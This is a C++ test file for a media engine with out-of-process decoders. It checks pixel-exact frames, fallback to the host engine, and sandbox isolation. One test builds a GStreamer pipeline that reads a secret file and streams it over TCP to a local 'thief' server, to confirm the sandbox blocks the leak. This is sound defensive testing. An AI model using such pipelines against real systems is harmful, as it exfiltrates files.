// What lies between two processes: pixels, walls, programs that are not there.
#include <fstream>

#include "platform/avfoundation/process/MediaProcesses.h"
#include "tests/platform/avfoundation/engine/EngineTest.h"

namespace {

class Across : public EngineTest {
 protected:
  static std::vector<std::uint8_t> pixelsOf(const VideoFrame& frame) {
    std::vector<std::uint8_t> pixels(static_cast<std::size_t>(frame.width * frame.height * 4));
    for (int row = 0; frame.decoded && row < frame.height; row += frame.decoded->rowsAtOnce()) {
      frame.decoded->draw(row, pixels.data() + row * frame.width * 4, frame.width * 4);
    }
    for (std::size_t i = 3; i < pixels.size(); i += 4) pixels[i] = 0;
    return pixels;
  }
};

TEST_F(Across, everyPictureIsTheSameToThePixel) {
  for (const char* clip : {"clip.mp4", "clip.webm", "clip.ts", "anamorphic.mp4", "odd.mp4", "rotated.mp4"}) {
    SCOPED_TRACE(clip);
    for (const double place : {0.0, 0.4}) {
      ASSERT_TRUE(open(clip, MediaPurpose::programme, place));
      const VideoFrame across = frames->last();
      engine = MediaEngine::make({urlOf(clip)});
      const auto near = std::make_shared<NumberedFrames>();
      engine->setFrameSink(near);
      engine->load(CMTimeMakeWithSeconds(place, 1000));
      ASSERT_TRUE(runUntil([&] { return near->last().isValid(); }));
      const VideoFrame own = near->last();
      EXPECT_EQ(across.time, own.time);
      EXPECT_EQ(across.width, own.width);
      EXPECT_EQ(across.rotation, own.rotation);
      EXPECT_EQ(across.pixelAspectNumerator, own.pixelAspectNumerator);
      EXPECT_TRUE(pixelsOf(across) == pixelsOf(own));
    }
  }
}

TEST_F(Across, theHostsEngineTakesOverWhenTheProgramIsNotThereOrDoesNotRun) {
  for (const char* program : {"/no/such/program", "/bin/false"}) {
    SCOPED_TRACE(program);
    make("half.mp4");
    MediaProcesses::setProgram(program);
    engine->load(kCMTimeZero);
    EXPECT_TRUE(runUntil([this] { return told.ready > 0; }));
    EXPECT_FALSE(MediaProcesses::areAvailable());
    EXPECT_TRUE(playTo(0.3));
  }
}

// What a decoder that has been taken over would try: to send a file, or anything at all, to a thief. The sound device
// is a pipeline of the test's own making, which does so in the host.
TEST_F(Across, theProcessReadsNoFileThatItWasNotGivenAndReachesNoNetworkButToFetch) {
  const std::string secret = testing::TempDir() + "secret." + std::to_string(getpid());
  std::ofstream(secret) << "GET /secret HTTP/1.0\r\n\r\n";
  HTTPServer thief;
  const std::string url = thief.url("");
  const auto steal = [&](const std::string& what, std::unique_ptr<MediaEngine> taken) {
    MediaEngineSettings::shared().soundDevice =
        "fakesink " + what + " ! tcpclientsink host=127.0.0.1 port=" + url.substr(url.rfind(':') + 1);
    bool isReady = false;
    MediaEngine::Events events;
    events.ready = [&] { isReady = true; };
    taken->setEvents(std::move(events));
    taken->load(kCMTimeZero);
    taken->setRate(1);
    EXPECT_TRUE(runUntil([&] { return isReady && CMTimeGetSeconds(taken->position()) > 0.5; }));
  };
  const std::string file = "filesrc location=" + secret, noise = "audiotestsrc num-buffers=2";
  steal(noise, engineUnderTest({urlOf("clip.mp4")}));
  EXPECT_EQ(thief.connections(), 0);
  steal(noise, MediaEngine::make({urlOf("clip.mp4")}));
  EXPECT_EQ(thief.connections(), 1);
  steal(file, engineUnderTest({urlOf("@clip.mp4")}));
  EXPECT_EQ(thief.count("/secret"), 0u);
  steal(file, MediaEngine::make({urlOf("@clip.mp4")}));
  EXPECT_EQ(thief.count("/secret"), 1u);
  std::remove(secret.c_str());
}

}  // namespace
